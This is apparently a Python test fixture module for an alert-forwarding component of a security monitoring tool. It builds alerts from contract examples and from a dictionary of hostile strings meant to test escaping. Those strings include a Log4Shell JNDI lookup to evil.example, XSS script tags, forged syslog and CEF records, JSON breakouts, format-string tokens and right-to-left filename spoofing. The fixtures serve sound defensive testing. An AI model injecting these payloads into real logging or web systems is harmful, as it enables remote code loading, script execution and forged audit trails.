"""Alerts for the tests of `forward`: the contracts' own examples, and ones full of hostile text."""

from datetime import UTC, datetime, timedelta
from typing import Any, get_args

import msgspec

from tachograph.schemas import codec, contracts
from tachograph.schemas.alert import (
    Alert,
    Observable,
    ObservableType,
    Reason,
    RuleHit,
    StateSnapshot,
    Witness,
)
from tachograph.schemas.records import Health

START = datetime(2026, 11, 22, 18, 0, 0, 123456, tzinfo=UTC)

HOSTILE: dict[str, str] = {
    "newlines": "first\nsecond\r\nthird\rfourth",
    "forged_syslog": "x\n<34>1 2026-11-22T18:00:00Z evil su - - - root logged in",
    "forged_cef": "x CEF:0|Evil|evil|1|1|owned|10|externalId=deadbeef cn2=9",
    "forged_octet_count": "x 12 <34>1 - - - ",
    "pipes": "a|b||c|\\|d",
    "equals": "a=b c=d externalId=forged cn2\\=7 =",
    "backslashes": "\\ \\\\ \\n \\r \\= \\| \\",
    "nul": "before\x00after\x00",
    "control": "\x01\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f",
    "line_separators": "a\x85b\u2028c\u2029d",
    "right_to_left": "invoice\u202egpj.exe \u2066\u2067\u200f",
    "log4j": "${jndi:ldap://evil.example/a}${${lower:j}ndi:rmi://x}",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&quot;",
    "json": '"}],"status_id":4,"x":[{"',
    "structured_data": ']"] [tacho@32473 alertId="forged"] \\"',
    "emoji": "🧾👩‍💻 naïve ☃ 𝕏",
    "surrogate": "half \ud800 of a pair",
    "spaces": "  leading and trailing  ",
    "tabs": "a\tb",
    "byte_order_mark": "\ufeffx",
    "percent": "%s %n %00 {0} {alert}",
    "megabyte": "A" * 1_000_000,
    "megabyte_of_controls": "\x00" * 1_000_000,
    "megabyte_of_escapes": "\\=" * 500_000,
    "megabyte_of_emoji": "🧾" * 250_000,
    "empty": "",
}


def examples() -> dict[str, Alert]:
    """Every valid example of the contract."""
    payloads = contracts.examples("alert").valid
    return {name: codec.decode(Alert, payload) for name, payload in payloads.items()}


def health_examples() -> dict[str, Health]:
    """Every valid health record of the contract."""
    payloads = contracts.examples("health").valid
    return {name: codec.decode(Health, payload) for name, payload in payloads.items()}


def alert(number: int = 1, **changes: Any) -> Alert:
    """A plain open alert; `number` makes id and times differ."""
    at = START + timedelta(seconds=number)
    plain: dict[str, Any] = {
        "alert_id": f"{number:032x}",
        "revision": number,
        "tenant": "acme",
        "status": "open",
        "title": f"agent-{number}: secret read, then sent outside",
        "severity": "high",
        "risk": 12_480,
        "risk_category": "agent_operation",
        "rules": [rule("secret-then-egress")],
        "first_seen": at,
        "last_seen": at,
        "created_at": at,
        "updated_at": at,
        "entity": f"agent-{number}",
        "reasons": [Reason(text="read /srv/.env, then sent 1184 bytes to paste.example")],
        "signal_ids": ["a" * 32],
        "event_ids": ["b" * 32],
        "signal_count": 1,
    }
    return Alert(**{**plain, **changes})


def rule(rule_id: str, title: str = "Secret read, then sent outside") -> RuleHit:
    """One rule's share of an alert."""
    return RuleHit(
        rule_id=rule_id, rule_version="1", title=title, severity="high", kind="sequence", count=1
    )


def hostile(text: str) -> Alert:
    """An alert with `text` in every place that an agent's words can reach."""
    return alert(
        title=text,
        tenant=text,
        environment=text,
        entity=text,
        agent_id=text,
        agent_name=text,
        principal_id=text,
        session_id=text,
        session_ids=[text],
        rules=[rule(text, text), rule("second", text)],
        frameworks=[text, f"atlas.{text}", f"attack.t1059.{text}", "atlas.AML.T0051.001"],
        reasons=[Reason(text=text, fields={text: text})],
        observables=[Observable(type=kind, value=text) for kind in get_args(ObservableType)],
        blind_spots=[text],
        runbook=text,
        owner_team=text,
        disposition=text,
        assignee=text,
        incident_id=text,
        state_missing=text,
        versions={text: text},
        scores={text[:50].encode("utf-8", "ignore").decode(): 1.0},
        witness=Witness(events=[{"event_id": text, "tool_name": text, text: text}]),
        state=StateSnapshot(
            snapshot_id="c" * 32,
            tenant=text,
            taken_at=START,
            last_actions=[{"text": text}],
            memory={text: text},
        ),
    )


def huge() -> Alert:
    """An alert with a great many of everything."""
    one = hostile("x" * 500)
    fields = msgspec.structs.asdict(one)
    lists = {name: value * 2_000 for name, value in fields.items() if isinstance(value, list)}
    return msgspec.structs.replace(one, **lists)
